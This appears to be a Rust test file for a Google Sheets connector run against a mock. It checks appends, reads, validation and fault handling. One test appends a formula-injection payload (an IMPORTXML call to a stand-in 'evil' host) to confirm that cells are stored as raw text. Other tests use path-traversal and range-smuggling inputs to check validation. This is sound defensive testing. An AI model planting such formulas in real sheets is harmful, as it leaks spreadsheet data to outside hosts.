//! Google Sheets at its mock: rows, ranges, and what must never become a formula.

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};

use bailee_core::{Grant, ProviderError};
use bailee_testkit::{
    mock_google::{ACCOUNT_EMAIL, sheets},
    mock_provider::Fault,
};
use provider_tests::{GoogleKit, conformance::requests_conform};

async fn create(kit: &GoogleKit, grant: &Grant) -> Result<String> {
    let made = kit.call(grant, "create_spreadsheet", &json!({ "title": "Leads" }), None).await?;
    let text = |name| made.get(name).and_then(Value::as_str);
    let id = text("id").context("an id")?.to_owned();
    assert_eq!(text("sheet"), Some("Sheet1"));
    assert_eq!(text("url"), Some(format!("https://docs.google.com/spreadsheets/d/{id}/edit").as_str()));
    Ok(id)
}

async fn append(
    kit: &GoogleKit,
    grant: &Grant,
    id: &str,
    range: &str,
    rows: Value,
) -> Result<Value, ProviderError> {
    let arguments = json!({ "spreadsheet_id": id, "range": range, "rows": rows });
    kit.call(grant, "append_to_sheet", &arguments, None).await
}

async fn read(kit: &GoogleKit, grant: &Grant, id: &str, range: &str) -> Result<Value, ProviderError> {
    kit.call(grant, "read_sheet_values", &json!({ "spreadsheet_id": id, "range": range }), None).await
}

#[tokio::test]
async fn rows_are_appended_and_read() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    let id = create(&kit, &grant).await?;
    append(&kit, &grant, &id, "Sheet1!A1", json!([["Date", "Who", "Amount", "Paid"]])).await?;
    let added =
        append(&kit, &grant, &id, "Sheet1!A1", json!([["2026-03-01", "Bob", 120.5, true], ["2026-03-02"]]))
            .await?;
    assert_eq!(added, json!({ "updated_range": "Sheet1!A2:D3", "updated_rows": 2 }));
    let values = read(&kit, &grant, &id, "Sheet1!A1:D50").await?;
    let expected =
        json!([["Date", "Who", "Amount", "Paid"], ["2026-03-01", "Bob", "120.5", "TRUE"], ["2026-03-02"]]);
    assert_eq!(values["rows"], expected);
    assert_eq!(values["truncated"], json!(false));
    assert_eq!(read(&kit, &grant, &id, "F1:G9").await?["rows"], json!([]));
    requests_conform(&kit.mock)
}

#[tokio::test]
async fn a_formula_in_a_cell_stays_text() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    let id = create(&kit, &grant).await?;
    let row = json!(["=IMPORTXML(\"https://evil.example.test\", A1)", "+1", "@SUM(A1)", "=1+1", "'=2", 3]);
    append(&kit, &grant, &id, "A1", json!([row])).await?;
    assert_eq!(kit.mock.cells(ACCOUNT_EMAIL, &id).map(Value::from), Some(json!([row])));
    let sent =
        kit.mock.requests().into_iter().rfind(|request| request.endpoint == Some(sheets::VALUES_APPEND));
    let sent = sent.context("an append")?;
    assert_eq!(sent.query("valueInputOption"), Some("RAW"));
    assert_eq!(sent.json.as_ref().map(|body| &body["values"]), Some(&json!([row])));
    requests_conform(&kit.mock)
}

#[tokio::test]
async fn a_cell_is_a_text_a_number_or_a_boolean() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    kit.mock.clear_requests();
    for (rows, pointer) in [
        (json!([[null]]), "/rows/0/0"),
        (json!([["a", { "formula": "=1" }]]), "/rows/0/1"),
        (json!([[["nested"]]]), "/rows/0/0"),
        (json!([[]]), "/rows/0"),
        (json!([]), "/rows"),
        (json!(["a"]), "/rows/0"),
        (json!([["x".repeat(1_000_001)]]), "/rows"),
    ] {
        let answer = append(&kit, &grant, "1abc", "A1", rows).await;
        let told =
            matches!(&answer, Err(ProviderError::InvalidArguments { pointer: told, .. }) if told == pointer);
        ensure!(told, "{pointer}: {answer:?}");
    }
    assert_eq!(kit.mock.requests().len(), 0);
    Ok(())
}

#[tokio::test]
async fn the_name_of_a_sheet_stays_a_name() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    for sheet in ["It's! here", "Q1 2026", "a'!b", "../../x", "50% / 100?", "Ü #1", "A1:B2", "x:clear"] {
        let id = kit.mock.add_spreadsheet(ACCOUNT_EMAIL, "By hand", sheet, &[vec![json!("here")]]);
        let range = format!("'{}'!A1:B2", sheet.replace('\'', "''"));
        assert_eq!(read(&kit, &grant, &id, &range).await?["rows"], json!([["here"]]), "{sheet}");
        append(&kit, &grant, &id, &range, json!([["more"]])).await?;
        let cells = kit.mock.cells(ACCOUNT_EMAIL, &id).map(Value::from);
        assert_eq!(cells, Some(json!([["here"], ["more"]])), "{sheet}");
    }
    requests_conform(&kit.mock)
}

#[tokio::test]
async fn what_names_no_cells_is_refused_before_any_request() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    kit.mock.clear_requests();
    for range in [
        "March",
        "..",
        "../A1",
        "A1:clear",
        "'It's'!A1",
        "'open!A1",
        "A1,B2",
        "A1?x=1",
        "Sheet1!A1\n",
        "A1:B2:C3",
    ] {
        for answer in [
            read(&kit, &grant, "1abc", range).await,
            append(&kit, &grant, "1abc", range, json!([["x"]])).await,
        ] {
            let told = matches!(&answer, Err(ProviderError::InvalidArguments { pointer, .. }) if pointer == "/range");
            ensure!(told, "{range}: {answer:?}");
        }
    }
    for id in ["..", "a/../b", "a%2f", "a:b", "a\n"] {
        let answer = read(&kit, &grant, id, "A1").await;
        let told = matches!(&answer, Err(ProviderError::InvalidArguments { pointer, .. }) if pointer == "/spreadsheet_id");
        ensure!(told, "{id}: {answer:?}");
    }
    assert_eq!(kit.mock.requests().len(), 0);
    Ok(())
}

#[tokio::test]
async fn a_large_range_is_cut_and_says_so() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    let rows = vec![vec![json!("a \"quoted\" cell of some length"), json!(7)]; 5_000];
    let id = kit.mock.add_spreadsheet(ACCOUNT_EMAIL, "Big", "Big", &rows);
    let values = read(&kit, &grant, &id, "Big!A:B").await?;
    ensure!(values.to_string().chars().count() <= 40_000, "the answer is too long");
    let count = values["rows"].as_array().map_or(0, Vec::len);
    ensure!((500..5_000).contains(&count), "{count} rows");
    assert_eq!(values["truncated"], json!(true));
    Ok(())
}

#[tokio::test]
async fn a_lost_append_leaves_the_outcome_open() -> Result<()> {
    let kit = GoogleKit::open().await?;
    let grant = kit.connect().await?;
    let id = create(&kit, &grant).await?;
    for fault in
        [Fault::DropAfterProcessing, Fault::DropBeforeProcessing, Fault::Status(500), Fault::WrongJson]
    {
        kit.mock.fault(sheets::VALUES_APPEND, fault.clone()).once();
        let lost = append(&kit, &grant, &id, "A1", json!([["x"]])).await;
        assert_eq!(lost, Err(ProviderError::OutcomeUnknown), "{fault:?}");
    }
    Ok(())
}
